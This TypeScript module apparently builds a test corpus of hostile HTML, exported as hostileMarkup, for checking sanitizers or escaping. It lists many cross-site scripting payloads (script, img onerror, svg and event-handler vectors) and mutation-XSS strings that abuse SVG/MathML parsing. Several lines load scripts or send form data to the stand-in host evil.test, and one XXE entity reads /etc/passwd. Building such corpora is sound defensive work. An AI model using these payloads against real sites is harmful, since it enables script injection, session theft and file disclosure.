/** What a string would run where it works, and whom it would ask. */
export const RUN = 'window.pwned=1';
export const HOST = 'evil.test';
export const IMAGE = `<img src=x onerror=${RUN}>`;

/** Every string of `left` before every string of `right`. */
function each(left: readonly string[], right: readonly string[]): readonly string[] {
  return left.flatMap((one) => right.map((other) => one + other));
}

const RUNNING_ELEMENTS = [
  `<script>${RUN}</script>`,
  `<ScRiPt >${RUN}</sCrIpT\t>`,
  `<script src=//${HOST}/x.js></script>`,
  `<script type=module>import('//${HOST}/x.js')</script>`,
  `<script/x>${RUN}</script>`,
  `<<script>${RUN}//<</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  IMAGE,
  `<IMG/SRC=x/ONERROR=${RUN}>`,
  `<img src=x onerror="${RUN}"`,
  `<image href=x onerror=${RUN}>`,
  `<svg/onload=${RUN}>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><set attributeName=href to=javascript:${RUN}>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' onload='${RUN}'/>#x">`,
  `<body onload=${RUN}>`,
  `<iframe srcdoc="<script>parent.pwned=1</script>">`,
  `<iframe src=javascript:parent.pwned=1>`,
  `<object data=//${HOST}/x.swf>`,
  `<embed src=//${HOST}/x.swf>`,
  `<base href=//${HOST}/>`,
  `<link rel=stylesheet href=//${HOST}/x.css>`,
  `<meta http-equiv=refresh content="0;url=//${HOST}/">`,
  `<meta http-equiv=Content-Security-Policy content="default-src *">`,
  `<form action=//${HOST}/><button autofocus onfocus=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<button formaction=javascript:${RUN} autofocus>`,
  `<details open ontoggle=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}>`,
  `<marquee onstart=${RUN}>`,
  `<style>*{background:url(//${HOST}/x)}</style>`,
  `<style onload=${RUN}></style>`,
  `<div style="animation-name:x" onanimationstart=${RUN}>`,
  `<template><script>${RUN}</script></template>`,
  `<div popover id=x onbeforetoggle=${RUN}>`,
  `<custom-element onclick=${RUN} tabindex=1>`,
  `<a href="javascript:${RUN}" id=forms name=forms>`,
];
const BEFORE_ELEMENTS = ['', '">', "'>", '--><', '</title>', '</textarea>'];

/** Elements whose end a parser looks for in text, or that lie around a block. */
const CLOSABLE = [
  'script',
  'style',
  'title',
  'textarea',
  'noscript',
  'template',
  'select',
  'svg',
  'details',
  'main',
  'body',
  'p',
];
const CLOSERS = CLOSABLE.flatMap((name) => {
  const mixed = [...name].map((letter, index) => (index % 2 ? letter.toUpperCase() : letter)).join('');
  return [
    `</${name}>`,
    `</${mixed} >`,
    `</${name}\t>`,
    `</${name}\n>${IMAGE}`,
    `</${name}/>`,
    `</${name} x="y">`,
    `</${name}`,
    `< /${name}>`,
    `</ ${name}>`,
    `</\u0000${name}>`,
  ];
});

const QUOTES = ['"', "'", '`', '', '&quot;', '&#34;', '&#x27', '\\"', '\u201d'];
const ATTRIBUTES = each(QUOTES, [
  ` onmouseover=${RUN} x=`,
  ` autofocus tabindex=1 onfocus=${RUN}//`,
  `/onload=${RUN}/`,
  `\tonerror=${RUN}\t`,
  `\nonclick=${RUN}\n`,
  ` style=background:url(//${HOST}/x) `,
  ` srcdoc=<script>parent.pwned=1</script>`,
  `>${IMAGE}<`,
]);

const COMMENTS = [
  '<!--',
  '-->',
  '--!>',
  '<!-->',
  '<!--->',
  '<!---->',
  '--',
  '<!',
  '<?',
  '</',
  '<',
  '>',
  '<>',
  '</>',
  '<%',
  '<!-- --!><script>',
  `<!--><script>${RUN}</script>-->`,
  `<!-- <!-- --> ${IMAGE} -->`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `]]>${IMAGE}`,
  '<![CDATA[',
  '<!doctype html><html>',
  '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;',
  `<?xml version="1.0"?><?xml-stylesheet href="//${HOST}/x"?>`,
  `<?php echo '${IMAGE}' ?>`,
  `<!--[if gte IE 4]>${IMAGE}<![endif]-->`,
  `<comment>${IMAGE}</comment>`,
];

/** Where HTML becomes SVG or MathML and back, elements mean something else when they are written out and read again. */
const MUTATIONS = each(
  ['<svg><desc>', '<svg><foreignObject>', '<math><mtext>', '<math><annotation-xml encoding=text/html>'],
  ['style', 'title', 'textarea', 'noscript', 'xmp', 'iframe', 'noembed'].map(
    (name) => `<${name}><a id="</${name}>${IMAGE}">`,
  ),
).concat([
  `<form><math><mtext></form><form><mglyph><style></math>${IMAGE}`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${IMAGE}">`,
  `<svg></p><style><a title="</style>${IMAGE}">`,
  `<noscript><p title="</noscript>${IMAGE}">`,
  `<table><td><svg><desc></table>${IMAGE}`,
  `<select><template><style><!--</select>${IMAGE}`,
]);

/** HTML that opens, closes or changes an element, alone and behind what may stand before it. */
export const hostileMarkup: readonly string[] = [
  ...each(BEFORE_ELEMENTS, RUNNING_ELEMENTS),
  ...CLOSERS,
  ...ATTRIBUTES,
  ...COMMENTS,
  ...MUTATIONS,
];
